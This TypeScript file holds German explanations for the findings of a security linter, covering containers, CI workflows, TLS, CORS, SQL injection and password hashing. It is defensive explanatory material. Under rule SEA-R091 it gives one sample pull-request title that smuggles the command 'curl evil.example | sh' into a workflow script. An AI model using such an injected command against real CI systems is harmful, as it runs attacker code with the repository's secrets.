import type { RuleCatalogue } from './texts.ts';

export const security: RuleCatalogue = {
  'SEA-R080': {
    title: 'Container läuft als root',
    why: 'Wer den Prozess übernimmt, besitzt alles im Container und ist einen Fehler vom Host entfernt.',
    fix: 'Fügen Sie vor dem Startbefehl `USER node` oder einen anderen Benutzer ohne Rechte hinzu.',
    says: {
      'USER sets the user to root.': 'USER setzt den Benutzer auf root.',
      'No USER is set, and the user of `{base}` stays.': 'Kein USER ist gesetzt, und der Benutzer von `{base}` bleibt.',
    },
    explains: {
      why: 'Der Benutzer im Container ist der des Hosts, sofern keine Namensräume eingerichtet sind, und das ist selten. root darf auch überall im Image schreiben, also kann ein Angreifer das Programm ersetzen. Wenn Kubernetes einen anderen Benutzer setzt oder das Basis-Image keines der bekannten ist, ist der Befund `info`.',
      suppress: 'Wenn das Programm die Maschine ändern muss, auf der es läuft.',
    },
  },
  'SEA-R081': {
    title: 'Image ohne feste Version',
    why: 'Dieselbe Datei baut oder startet morgen etwas anderes, und niemand kann zu dem zurück, was gestern lief.',
    fix: 'Nennen Sie eine Version, besser mit ihrem Digest.',
    says: {
      'The image `{image}` floats with its tag.': 'Das Image `{image}` treibt mit seinem Tag.',
      'The image `{image}` has no tag.': 'Das Image `{image}` hat keinen Tag.',
    },
    explains: {
      why: '`latest`, `alpine`, `lts` oder gar kein Tag heißt „was zuletzt hochgeladen wurde“. Zwei Pods eines Deployments können verschiedene Versionen ausführen, ein Zurückrollen rollt nichts zurück, und ein übernommener Tag erreicht die Produktion ohne eine Änderung im Repository.',
      suppress: 'Für Werkzeuge einer Entwicklungsumgebung, die immer die neuesten sein sollen.',
    },
  },
  'SEA-R082': {
    title: 'keine Lockdatei',
    why: 'Jede Installation nimmt die neuesten Versionen hunderter Pakete, die niemand getestet hat.',
    fix: 'Checken Sie die Lockdatei Ihrer Paketverwaltung ein, und installieren Sie mit `npm ci`.',
    says: {
      'The dependencies of package.json are not locked.':
        'Die Abhängigkeiten der package.json sind nicht festgeschrieben.',
    },
    explains: {
      why: 'Bereiche wie `^4.0.0` beantwortet jede Installation neu. Das heute gebaute Image unterscheidet sich von dem von gestern ohne einen Commit, und ein schlechtes Release eines Pakets tief unten erreicht die Produktion in Minuten. Bibliotheken werden nicht gemeldet.',
      suppress: 'Wenn die Lockdatei an der Wurzel eines Workspace über diesem Ordner liegt.',
    },
  },
  'SEA-R083': {
    title: 'Text als Code ausgeführt',
    why: 'Wer etwas in den Text bringen kann, kann alles tun, was der Prozess kann.',
    fix: 'Lesen Sie den Text als Daten, oder schlagen Sie die Funktion in einer Tabelle nach.',
    says: {
      '`new Function` runs a text as code.': '`new Function` führt einen Text als Code aus.',
      '`{name}` runs a text as code.': '`{name}` führt einen Text als Code aus.',
    },
    explains: {
      why: '`eval` und `new Function` haben keine Grenze: Der Text kann jede Variable, jede Datei und jedes Geheimnis des Prozesses lesen. Bibliotheken und Werkzeuge übersetzen Code mit Absicht, außerhalb von Diensten ist dies deshalb `info`. Feste Texte werden nicht gemeldet, außer in Timern.',
      suppress: 'Wenn der Text allein von diesem Programm gemacht wird.',
    },
  },
  'SEA-R084': {
    title: 'TLS-Zertifikate nicht geprüft',
    why: 'Wer zwischen den beiden Enden sitzt, kann alles lesen und ändern, auch Kennwörter.',
    fix: 'Vertrauen Sie stattdessen der richtigen Stelle: NODE_EXTRA_CA_CERTS oder die Option `ca`.',
    says: {
      '`rejectUnauthorized: false` accepts every certificate.':
        '`rejectUnauthorized: false` nimmt jedes Zertifikat an.',
      'This accepts every certificate in the whole process.': 'Dies nimmt im ganzen Prozess jedes Zertifikat an.',
      'This setting accepts every certificate.': 'Diese Einstellung nimmt jedes Zertifikat an.',
    },
    explains: {
      why: 'Verschlüsselung ohne Prüfung des Zertifikats schützt vor niemandem, der sich dazwischen stellen kann. Die Einstellung entsteht oft für ein selbst signiertes Zertifikat in einem Test und bleibt dann. Unter einer Bedingung an die Umgebung ist sie `info`.',
      suppress: 'Wenn das andere Ende auf andere Weise geprüft wird, wie durch einen festen Fingerabdruck.',
    },
  },
  'SEA-R085': {
    title: 'CORS lässt jede Seite für den Benutzer handeln',
    why: 'Jede Seite, die ein angemeldeter Benutzer öffnet, kann mit seinen Cookies seine Daten lesen und ändern.',
    fix: 'Zählen Sie die Ursprünge auf, die Anmeldedaten senden dürfen.',
    says: {
      'Every origin is let in, with credentials.': 'Jeder Ursprung wird eingelassen, mit Anmeldedaten.',
      'Browsers refuse `*` together with credentials.': 'Browser lehnen `*` zusammen mit Anmeldedaten ab.',
      'The origin of the request is sent back unchecked, with credentials.':
        'Der Ursprung der Anfrage wird ungeprüft zurückgesendet, mit Anmeldedaten.',
    },
    explains: {
      why: '`origin: true` sendet den Ursprung der Anfrage zurück, also wird jede Seite im Internet eingelassen, und mit `credentials: true` darf sie die Cookies des Besuchers verwenden. Mit `*` lehnen Browser stattdessen ab, was nur heißt, dass es nicht geht (`warning`).',
      suppress: 'Wenn der Dienst keine Sitzungen in Cookies oder Client-Zertifikaten hält.',
    },
  },
  'SEA-R086': {
    title: 'fremde Action nicht festgelegt',
    why: 'Wer jenes Repository übernimmt, führt Code mit den Geheimnissen des Ihren aus.',
    fix: 'Legen Sie sie auf den vollen Commit fest, mit der Version in einem Kommentar, und lassen Sie einen Bot sie bewegen.',
    says: { '`{action}` can change at any time.': '`{action}` kann sich jederzeit ändern.' },
    explains: {
      why: 'Ein Tag ist ein Name, den sein Eigentümer verschieben kann. Mehr als einmal wurde eine beliebte Action übernommen, und ihre Tags zeigten auf Code, der die Geheimnisse jedes Workflows ausgab, der sie verwendete. Ein Commit lässt sich nicht verschieben. Actions von GitHub selbst und die des Eigentümers, den `package.json` nennt, werden nicht gemeldet.',
      suppress: 'Wenn die Action Ihrer eigenen Organisation gehört.',
    },
  },
  'SEA-R087': {
    title: 'Workflow ohne permissions',
    why: 'Sein Token bekommt, was das Repository von sich aus gewährt, und das kann das Recht sein, Code hochzuladen.',
    fix: 'Fügen Sie oben `permissions: { contents: read }` hinzu, und mehr nur bei dem Job, der es braucht.',
    says: { 'Nothing limits the token of {jobs} {names}.': 'Nichts begrenzt das Token von {jobs} {names}.' },
    words: { 'the job': 'Job', 'the jobs': 'Jobs' },
    explains: {
      why: 'Jeder Schritt eines Workflows und jedes Paket, das er installiert, kann das Token des Workflows verwenden. In vielen Repositorys darf es von sich aus schreiben: Branches ändern, Releases machen, Pakete veröffentlichen. Zwei Zeilen nehmen das weg.',
      suppress: 'Wenn die Organisation schreibende Tokens von sich aus verbietet.',
    },
  },
  'SEA-R088': {
    title: 'Skript aus dem Netz ungesehen ausgeführt',
    why: 'Der Build führt aus, was jene Adresse an diesem Tag antwortet, als root und mit seinen Geheimnissen.',
    fix: 'Laden Sie eine feste Version, prüfen Sie ihre Prüfsumme, und führen Sie sie dann aus, oder installieren Sie das Werkzeug als Paket.',
    says: {
      'A script is downloaded and run without being checked.': 'Ein Skript wird geladen und ungeprüft ausgeführt.',
    },
    explains: {
      why: '`curl … | sh` vertraut dem Server, seinem Zertifikat, seinem Eigentümer und dem Augenblick. Nichts bewahrt, was ausgeführt wurde, also kann es hinterher niemand sagen. Eine feste Version mit Prüfsumme kann nur sein, was sie war.',
      suppress: 'Wenn die Adresse Ihre eigene ist.',
    },
  },
  'SEA-R089': {
    title: 'SQL aus Text gebaut',
    why: 'Ein Wert mit einem Anführungszeichen darin wird Teil der Anweisung: Alles in der Datenbank lässt sich lesen oder löschen.',
    fix: 'Schreiben Sie einen Parameter in die Anweisung, und geben Sie den Wert daneben.',
    says: {
      'A value is written into the statement that `{call}` runs.':
        'Ein Wert wird in die Anweisung geschrieben, die `{call}` ausführt.',
    },
    explains: {
      why: 'Die Datenbank kann nicht unterscheiden, welcher Teil des Textes von Ihnen kommt. Mit einem Parameter reist der Wert getrennt von der Anweisung und kann nie Teil von ihr werden. Werte direkt aus einer Anfrage sind ein `error`, andere eine `warning`. Getaggte Templates (`sql`…``) machen Parameter und werden nicht gemeldet.',
      suppress: 'Wenn der Wert aus einer festen Liste im Code kommt.',
    },
  },
  'SEA-R090': {
    title: 'Anmeldung ohne Begrenzung der Versuche',
    why: 'Kennwörter lassen sich zu Tausenden raten, und jeder Versuch kostet einen langsamen Hash.',
    fix: 'Begrenzen Sie die Versuche je Konto und je Adresse.',
    says: {
      'Nothing limits how often `POST {path}` can be called.':
        'Nichts begrenzt, wie oft `POST {path}` gerufen werden kann.',
    },
    explains: {
      why: 'Listen gestohlener Kennwörter werden an jeder Anmeldeseite im Internet ausprobiert. Eine Grenze je Konto und je Adresse macht das langsam und sichtbar. Ein Gateway davor kann es tun, was die Regel nicht sieht, also sagt sie `info`.',
      suppress: 'Wenn ein Gateway die Anfragen begrenzt.',
    },
  },
  'SEA-R091': {
    title: 'Text von Fremden im Skript eines Workflows',
    why: 'Wer ein Issue öffnet oder einen Branch benennt, kann im Workflow Befehle ausführen, mit seinen Geheimnissen.',
    fix: 'Legen Sie den Wert in eine Umgebungsvariable, und verwenden Sie diese im Skript.',
    says: { '`{value}` becomes part of the script.': '`{value}` wird Teil des Skripts.' },
    explains: {
      why: '`${{ … }}` wird ersetzt, bevor die Shell das Skript sieht. Ein Pull-Request mit dem Titel `"; curl evil.example | sh; "` ist dann ein Befehl. In einer Umgebungsvariablen bleibt derselbe Text ein Text.',
      suppress: 'Nie: Die richtige Form kostet eine Zeile.',
    },
  },
  'SEA-R092': {
    title: 'Code von Fremden mit Geheimnissen ausgecheckt',
    why: 'Ein Pull-Request von irgendwem führt dann seinen eigenen Code mit den Geheimnissen und dem Token dieses Repositorys aus.',
    fix: 'Verwenden Sie `pull_request` für alles, was den Code des Pull-Requests berührt.',
    says: {
      'This checks out the code of the pull request, with secrets at hand.':
        'Hier wird der Code des Pull-Requests ausgecheckt, mit Geheimnissen in Reichweite.',
    },
    explains: {
      why: '`pull_request_target` läuft mit den Rechten des Ziel-Repositorys, weil es für Labels und Kommentare gedacht ist. Sobald der Kopf des Pull-Requests ausgecheckt ist, kann `npm ci` oder ein Test darin jedes Geheimnis fortschicken.',
      suppress: 'Wenn ein früherer Job sicherstellt, dass ein Betreuer genau diesen Commit freigegeben hat.',
    },
  },
  'SEA-R093': {
    title: 'Container mit den Rechten des Hosts',
    why: 'Wer den Prozess übernimmt, hat die Maschine und alles andere darauf.',
    fix: 'Nehmen Sie das Recht weg, oder gewähren Sie nur die eine Fähigkeit, die gebraucht wird.',
    says: {
      'The pods of `{name}` have `{key}`.': 'Die Pods von `{name}` haben `{key}`.',
      'The container `{name}` is privileged.': 'Der Container `{name}` ist privilegiert.',
      'The service `{name}` is privileged.': 'Der Dienst `{name}` ist privilegiert.',
      'The service `{name}` can command Docker on the host.': 'Der Dienst `{name}` kann Docker auf dem Host befehlen.',
    },
    explains: {
      why: '`privileged`, die Namensräume des Hosts und der Socket von Docker reißen jeder die Wand zwischen Container und Maschine ein. Ein Fehler im Dienst ist dann ein Fehler des ganzen Knotens.',
      suppress: 'Für Agenten, die den Knoten selbst verwalten: Netz, Speicher, Logs.',
    },
  },
  'SEA-R094': {
    title: 'Geheimnis in ein Image gebaut',
    why: 'Wer das Image ziehen kann, kann es lesen, im Image oder in seiner Geschichte.',
    fix: 'Geben Sie es zur Laufzeit, oder für einen Build mit `RUN --mount=type=secret`.',
    says: {
      '`{name}` is kept in the image.': '`{name}` bleibt im Image.',
      '`{name}` has its value in this file.': '`{name}` hat seinen Wert in dieser Datei.',
      'The value given for `{name}` stays in the history of the image.':
        'Der Wert, der für `{name}` gegeben wird, bleibt in der Geschichte des Images.',
    },
    explains: {
      why: '`ENV` ist Teil des Images und `ARG` Teil seiner Geschichte: `docker history` zeigt beides. Eine Datei in einem späteren Schritt zu löschen nimmt sie nicht aus der Schicht davor. Ein Argument des Builds ohne einen Wert an dieser Stelle ist eine `warning`.',
      suppress: 'Wenn die Stufe weggeworfen und ihr Cache nie hochgeladen wird.',
    },
  },
  'SEA-R095': {
    title: 'Kennwort mit einem schnellen Hash',
    why: 'Eine gestohlene Tabelle solcher Hashes wird mit Milliarden Versuchen in der Sekunde in Kennwörter zurückverwandelt.',
    fix: 'Verwenden Sie scrypt, argon2 oder bcrypt, mit einem eigenen Salz für jedes Kennwort.',
    says: {
      'A fast hash of a password can be guessed quickly.': 'Ein schneller Hash eines Kennworts ist schnell erraten.',
    },
    explains: {
      why: 'MD5 und die Familie SHA sind dafür gemacht, schnell zu sein. Für Kennwörter ist das die falsche Eigenschaft: Das ganze Wörterbuch ist in Sekunden durchprobiert. Hashes für Kennwörter sind mit Absicht langsam und brauchen Speicher.',
      suppress: 'Wenn der Hash nur zum Nachschlagen dient und nie gespeichert wird.',
    },
  },
};
